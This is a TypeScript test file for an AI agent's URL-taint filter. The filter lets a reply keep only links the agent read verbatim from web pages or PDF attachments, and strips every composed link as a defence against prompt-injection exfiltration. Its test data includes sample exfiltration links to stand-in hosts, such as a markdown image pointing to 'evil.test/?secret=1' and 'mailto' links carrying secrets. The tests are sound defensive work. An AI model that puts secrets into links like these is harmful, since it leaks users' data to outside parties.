import { describe, expect, it } from 'vitest';
import { verifies } from '../../../../tests/requirements.ts';
import { RunTaint } from './run-taint.ts';
import { getQuotedText, removeComposedUrls } from './verbatim-urls.ts';

function given(...texts: string[]): RunTaint {
  const taint = new RunTaint(['web:pages.test']);
  for (const text of texts) taint.addText(text);
  return taint;
}

describe('addresses', () => {
  verifies('injection/no-effect', 'count as read only if they stand there as a whole', () => {
    const taint = given(
      'See https://pages.test/a?b=1, (https://pages.test/b) and [c](https://pages.test/c_(d)).',
      '{"url":"https:\\/\\/pages.test\\/json"}',
      'My site is example.com/start',
      'The part https://pages.test/d#top',
      '请看 https://pages.test/docs。谢谢',
    );
    for (const url of [
      'https://pages.test/a?b=1',
      'https://pages.test/a?b=1#',
      'https://pages.test/b',
      'https://pages.test/d#top',
      'https://pages.test/d',
      'https://pages.test/c_(d)',
      'https://pages.test/json',
      'https://pages.test/docs',
      'https://example.com/start',
      'HTTPS://PAGES.test/b',
    ])
      expect([url, taint.hasUrl(url)]).toEqual([url, true]);
    for (const url of [
      'https://pages.test/a',
      'https://pages.test/a?b=1&secret=2',
      'https://pages.test/b#secret',
      'https://pages.test/d#secret',
      'https://pages.test/',
      'https://secret.pages.test/b',
      'https://pages.test/b/secret',
      'https://pages.test@evil.test/b',
      'https://user:secret@pages.test/b',
      'http://pages.test/b',
      'ftp://pages.test/b',
      'https://example.com/start?secret',
      'nonsense',
    ])
      expect([url, taint.hasUrl(url)]).toEqual([url, false]);
  });

  it('are listed of a reply, and all others are removed from it', () => {
    const taint = given('https://pages.test/b');
    const reply = 'Read https://pages.test/b or ![x](https://evil.test/?secret=1), then https://evil.test/2.';
    const quoted = taint.findQuotedUrls(reply);
    expect(quoted).toEqual(['https://pages.test/b']);
    expect(removeComposedUrls(reply, quoted)).toBe('Read https://pages.test/b or ![x]([link removed]), then [link removed].');
  });

  it('of mail and telephones are known as those of the web are', () => {
    const taint = given('Write to ana@pages.test or mailto:bob@pages.test?subject=Hi, call tel:+123');
    const known = ['mailto:ana@pages.test', 'mailto:bob@pages.test?subject=Hi', 'tel:+123'];
    expect(taint.findQuotedUrls(known.join(' '))).toEqual(expect.arrayContaining(known));
    for (const url of ['mailto:ana@pages.test?body=secret', 'mailto:secret@evil.test', 'tel:+999'])
      expect([url, taint.hasUrl(url)]).toEqual([url, false]);
  });

  verifies('injection/no-effect', 'are removed without a scheme too, if a platform would make a link of them', () => {
    const taint = given('See pages.test/b and https://pages.test/?u=evil.test/x');
    const clean = (text: string): string => removeComposedUrls(text, taint.findQuotedUrls(text));
    for (const text of [
      'evil.example/x?d=secret',
      'evil.example?d=secret',
      'EVIL.example#secret',
      'secret.evil.example',
      'évil.example/secret',
      'evil.xn--p1ai/secret',
      'evil.example:8080/secret',
      'mailto:a@evil.test?body=secret',
      'ftp://evil.test/secret',
      'tg://resolve?domain=secret',
      'https://evil.test/?u=pages.test/b',
    ])
      expect([text, clean(`See ${text}.`)]).toEqual([text, 'See [link removed].']);
    for (const text of [
      'pages.test/b',
      'https://pages.test/?u=evil.test/x',
      'evil.test',
      'Node.js',
      'notes.md',
      'taint.test.ts',
      'e.g. this',
      '3.14',
      'ana@pages.test',
    ])
      expect(clean(`See ${text}.`)).toBe(`See ${text}.`);
  });

  verifies('injection/no-effect', 'are taken from what a tool quotes, but not from errors or files that the model may have written', () => {
    const page = JSON.stringify({ url: 'https://pages.test/', note: 'Data', text: 'See https://pages.test/b' });
    const quote = (tool: string, args: Record<string, unknown>, content = page): string => getQuotedText({ tool, args }, content);
    expect(quote('web_fetch', {})).toBe('https://pages.test/\nSee https://pages.test/b');
    expect(quote('read_pdf', { attachment: 'a.pdf' })).toContain('https://pages.test/b');
    expect(quote('read_pdf', { path: 'a.pdf' })).toBe('');
    expect(quote('file_read', {})).toBe('');
    expect(quote('web_fetch', {}, '{"error":"Unknown key https://evil.test/?s=1"}')).toBe('');
    expect(quote('web_fetch', {}, 'https://evil.test/?s=1')).toBe('');
  });
});
